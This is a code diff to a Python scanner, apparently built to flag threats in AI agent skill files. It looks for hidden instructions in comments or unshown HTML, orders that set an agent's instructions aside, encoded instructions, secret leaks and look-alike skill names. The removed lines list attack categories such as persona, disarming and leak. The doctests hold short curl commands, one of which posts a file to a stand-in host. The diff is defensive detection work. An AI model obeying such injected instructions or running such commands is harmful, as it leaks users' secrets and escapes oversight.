@@ -5,30 +5,24 @@ as a model reads it (look-alikes folded, variables filled in) and with its encod
 """
 
 import re
-from collections.abc import Iterable, Iterator, Mapping
+from collections.abc import Callable, Iterable, Iterator, Mapping
+from heapq import nlargest
+from itertools import islice
 from typing import Final
 
 from learnt.core import shell
-from learnt.core.address import Address, Commands, Phrases
+from learnt.core.address import Address, Commands
 from learnt.core.skills import threat_patterns as patterns
 from learnt.core.skills.findings import Finding, Severity
-from learnt.core.skills.hidden_text import decoded, hidden, mixed, unfolded, unleet
+from learnt.core.skills.hidden_text import decoded, hidden, mixed, turned, unfolded, unleet
+from learnt.core.skills.sentences import sentences
 from learnt.core.skills.skills import key_of
 
-PHRASES: Final = {
-    "override": "It sets the agent's instructions aside.",
-    "concealment": "It has the agent hide something from its person.",
-    "consent": "It says that the person has agreed, or forbids to ask.",
-    "persona": "It gives the agent a role without limits.",
-    "disarming": "It says that safety measures are off.",
-    "memory": "It plants lasting orders in the agent's memory.",
-    "disclosure": "It has the agent's own instructions disclosed.",
-    "remote-orders": "It has orders obeyed that are fetched from elsewhere.",
-    "leak": "It has secrets sent away.",
-    "claims-every-task": "It claims every task for itself.",
-    "false-claim": "It claims to be checked or official.",
-    "decode-and-obey": "It has encoded instructions followed.",
-}
+# How far a sentence is like those that mislead an agent: few honest ones are above 0.
+Misleads = Callable[[str], float]
+MOST_SHOWN: Final = 3  # lines to be read first
+MOST_READ: Final = 2_000  # sentences of a file that are compared
+COMMENT, UNSHOWN = "a comment", "unshown text"
 
 
 def scan(
@@ -36,23 +30,43 @@ def scan(
     name: str,
     existing: Iterable[str],
     commands: Commands,
-    phrases: Phrases,
+    misleads: Misleads,
 ) -> tuple[Finding, ...]:
     """The threats of a skill's files, by path and line; `existing` are names of other skills.
 
-    `commands` and `phrases` are the language room's questions.
+    `commands` and `misleads` are the language room's questions.
 
     >>> from learnt.core.address import Address
-    >>> calm = (lambda text: Address.NONE), (lambda text: ())
-    >>> [f.rule for f in scan({"SKILL.md": "Size: !`curl -d @x h`"}, "sizes", (), *calm)]
-    ['runs-when-loaded']
+    >>> calm = (lambda text: Address.NONE), (lambda sentence: -1.0)
+    >>> [f.rule for f in scan({"SKILL.md": "It: !`curl x`"}, "sizes", (), *calm)]
+    ['read-first', 'runs-when-loaded']
     """
-    findings = list(_of_name(name, existing))
+    findings, texts = list(_of_name(name, existing)), dict[str, str]()
     for path, content in sorted(files.items()):
         findings += _of_path(path, content)
         text = content if isinstance(content, str) else _text_of(content)
-        findings += _Text(path, text, commands, phrases).findings()
-    return _reduced(findings)
+        texts[path] = text
+        findings += _Text(path, text, commands, misleads).findings()
+    return _reduced([*findings, *_to_read_first(texts, misleads)])
+
+
+def _to_read_first(texts: Mapping[str, str], misleads: Misleads) -> Iterator[Finding]:
+    """The lines most like those that mislead: what a person who decides reads first."""
+    best: dict[tuple[str, int], tuple[float, str]] = {}
+    for path, text in texts.items():
+        for at, part in islice(sentences(text), MOST_READ):
+            line = text.count("\n", 0, at) + 1
+            score = misleads(unleet(part) or part)
+            best[path, line] = max(best.get((path, line), (score, part)), (score, part))
+    for path, line in nlargest(MOST_SHOWN, best, key=best.__getitem__):
+        score, part = best[path, line]
+        yield Finding(
+            rule="read-first",
+            message=f"Read this first: {part[:100]!r}.",
+            path=path,
+            line=line,
+            severity=Severity.WARNING if score > 0 else Severity.NOTE,
+        )
 
 
 def _reduced(findings: Iterable[Finding]) -> tuple[Finding, ...]:
@@ -121,12 +135,15 @@ def _of_name(name: str, existing: Iterable[str]) -> Iterator[Finding]:
                 yield _warning(
                     "same-name", f"A skill of the name {other!r} is there.", "SKILL.md", 1
                 )
-        elif _skeleton(name) == _skeleton(other) or (
+        elif _skeleton(_VERSION.sub("", name)) == _skeleton(other) or (
             min(len(name), len(other)) > 5 and _near(key, key_of(other))
         ):
             yield Finding(
                 rule="look-alike-name", message=f"The name is made to look like {other!r}."
             )
+
+
+_VERSION: Final = re.compile(r"(?<=\w)[-_ ]?v?\d+$")
 
 
 def _skeleton(name: str) -> str:
@@ -149,15 +166,13 @@ def _near(a: str, b: str) -> bool:
 class _Text:
     """One file's text with all that is asked of it."""
 
-    def __init__(self, path: str, text: str, commands: Commands, phrases: Phrases) -> None:
+    def __init__(self, path: str, text: str, commands: Commands, misleads: Misleads) -> None:
         self.path, self.text = path, text
-        self.commands, self.phrases = commands, phrases
+        self.commands, self.misleads = commands, misleads
         self.prose = path.rpartition(".")[2].casefold() in {"md", "txt", "rst", "mdx", "html"}
         self.main = path.casefold() == "skill.md"
         front = patterns.FRONT.match(text) if self.main else None
         self.front, self.body = front, front.end() if front else 0
-        low = text.casefold()
-        self.about_attacks = sum(word in low for word in patterns.ABOUT_ATTACKS) > 1
         self.mixed = mixed(text)
         self.plain = unfolded(text) if self.mixed else text
 
@@ -169,13 +184,10 @@ class _Text:
         if self.prose:
             yield from self._loaded()
             yield from self._places()
-        yield from self._phrases(self.plain)
-        if (leet := unleet(self.plain)) and not self.phrases(self.plain):
-            yield from self._phrases(leet)
+        yield from self._orders(unleet(self.plain) or self.plain)
         yield from self._units(self.plain)
         yield from self._acts(self.plain)
-        for at, inner in decoded(self.text):
-            yield from self._decoded(at, inner)
+        yield from self._encoded()
 
     def _at(self, rule: str, message: str, at: int, severity: Severity = Severity.ERROR) -> Finding:
         line = self.text.count("\n", 0, at) + 1
@@ -236,17 +248,17 @@ class _Text:
         at = shown.find("<!--")
         while at >= 0:
             end = (shown.find("-->", at) + 1 or len(shown) + 1) - 1
-            yield from self._place(shown[at + 4 : end], at, "a comment")
+            yield from self._place(shown[at + 4 : end], at, COMMENT)
             at = shown.find("<!--", end)
         for match in patterns.ELEMENT.finditer(shown):
             name = match[1].casefold()
             if name in patterns.UNSHOWN_ELEMENTS or patterns.UNSHOWN_STYLE.search(match[2]):
                 end = shown.find(f"</{match[1]}", match.end(), match.end() + 3_000)
                 inner = shown[match.end() : end] if end > 0 else ""
-                yield from self._place(inner, match.start(), "unshown text")
+                yield from self._place(inner, match.start(), UNSHOWN)
         for match in patterns.UNSHOWN.finditer(shown):
             inner = next(filter(None, match.groups()), "")
-            yield from self._place(inner, match.start(), "unshown text")
+            yield from self._place(inner, match.start(), UNSHOWN)
         tagged = any(
             word in self.text for word in ("alpha", "<!--", "[id:", "src=", "accepted=", "C0=")
         )
@@ -255,33 +267,31 @@ class _Text:
 
     def _place(self, text: str, at: int, where: str) -> Iterator[Finding]:
         """What stands where a reader of the rendered page does not see it."""
+        if len(text.split()) < 3 and text.isascii():
+            return
         address = self.commands(text)
-        to_agent = address is Address.READER and (
-            where != "a comment" or "://" in text or patterns.AGENT.search(text) is not None
-        )
         bad = (
-            to_agent
-            or address is Address.ORDER
-            or bool(patterns.SECRET.search(text.casefold()) or self.phrases(text))
-            or (where != "a comment" and "://" in text)
+            address is Address.ORDER
+            or where == UNSHOWN
+            or (address is Address.READER and patterns.AGENT.search(text) is not None)
+            or ("://" in text and where != COMMENT)
+            or patterns.SECRET.search(text.casefold()) is not None
+            or any(self.misleads(part) > 0 for _, part in sentences(text))
         )
-        if bad and (len(text.split()) > 2 or not text.isascii()):
+        if bad:
             yield self._at("hidden-instruction", f"It speaks to the agent in {where}.", at)
 
-    def _phrases(self, plain: str) -> Iterator[Finding]:
-        for rule, start, end in self.phrases(plain):
-            message = PHRASES.get(rule.removeprefix("weak "), "")
-            near = plain[max(0, start - 100) : end + 100].casefold()
-            sent = patterns.SECRET.search(near) and patterns.SEND.search(near)
-            weak = rule == "weak leak" and not sent
-            weak = weak or (self.about_attacks and _mentioned(plain, start, end))
-            weak = weak or (rule == "claims-every-task" and not start < self.body)
-            yield self._at(
-                rule.removeprefix("weak "),
-                message,
-                start,
-                Severity.WARNING if weak else Severity.ERROR,
-            )
+    def _orders(self, plain: str) -> Iterator[Finding]:
+        """The sentences that have the agent's instructions set aside."""
+        if self.commands(plain) is not Address.ORDER:
+            return
+        for at, part in [(0, plain), *sentences(plain)]:
+            if self.commands(part) is Address.ORDER and (at or "\n" not in plain.strip()):
+                # Whoever warns of an order quotes it.
+                weak = self.commands(patterns.QUOTED.sub(" ", part)) is not Address.ORDER
+                message = "It sets the agent's instructions aside."
+                severity = Severity.WARNING if weak else Severity.ERROR
+                yield self._at("override", message, at, severity)
 
     def _units(self, plain: str) -> Iterator[Finding]:
         if not self.prose:
@@ -317,7 +327,6 @@ class _Text:
                 line = low[low.rfind("\n", 0, match.start()) + 1 :].partition("\n")[0]
                 urls = patterns.URL.findall(line)
                 weak = act.rule == "pipe-to-shell" and urls and all(map(patterns.KNOWN.match, urls))
-                weak = weak or (self.prose and self.about_attacks)
                 if act.rule == "lasting":
                     weak = weak or not patterns.REMOTE.search(low, *self._unit(low, match.start()))
                 severity = Severity.WARNING if weak else Severity.ERROR
@@ -332,11 +341,22 @@ class _Text:
             return 0, len(text)
         return max(text.rfind("```", 0, at), 0), (text.find("```", at) + 1 or len(text) + 1) - 1
 
-    def _decoded(self, at: int, inner: str) -> Iterator[Finding]:
-        low = _hot(_flat(inner))
-        acts = next(_acts_in(low), None) or patterns.SECRET.search(inner.casefold())
-        if acts or self.phrases(inner) or ("://" in inner and self.text[at] not in "%&\\"):
-            yield self._at("encoded-instruction", f"Decoded it says {inner.strip()[:60]!r}.", at)
+    def _encoded(self) -> Iterator[Finding]:
+        for at, inner in decoded(self.text):
+            link = "://" in inner and self.text[at] not in "%&\\"
+            says = patterns.SENTENCE.search(inner) or next(decoded(inner), None)
+            if link or says or self._harms(inner):
+                yield self._says(at, inner)
+        for at, inner in turned(self.text):
+            if self._harms(inner):
+                yield self._says(at, inner)
+
+    def _harms(self, inner: str) -> bool:
+        act = next(_acts_in(_hot(_flat(inner))), None) or patterns.SECRET.search(inner.casefold())
+        return act is not None or self.commands(inner) is Address.ORDER
+
+    def _says(self, at: int, inner: str) -> Finding:
+        return self._at("encoded-instruction", f"Decoded it says {inner.strip()[:60]!r}.", at)
 
 
 def _is_hot(low: str) -> bool:
@@ -363,20 +383,6 @@ def _acts_in(low: str) -> Iterator[tuple[patterns.Act, re.Match[str]]]:
     for act in patterns.ACTS:
         if any(word in low for word in act.words) and (match := act.pattern.search(low)):
             yield act, match
-
-
-def _mentioned(text: str, start: int, end: int) -> bool:
-    """Whether a phrase is quoted: between quotation marks, in code or in a table."""
-    begin = text.rfind("\n", 0, start) + 1
-    line = text[begin : (text.find("\n", end) + 1 or len(text) + 1) - 1]
-    return (
-        any(word in line.casefold() for word in patterns.ABOUT_ATTACKS)
-        or line.lstrip().startswith(("|", ">"))
-        or any(
-            quote.start() <= start - begin and end - begin <= quote.end()
-            for quote in patterns.QUOTED.finditer(line)
-        )
-    )
 
 
 def _flat(code: str) -> str:
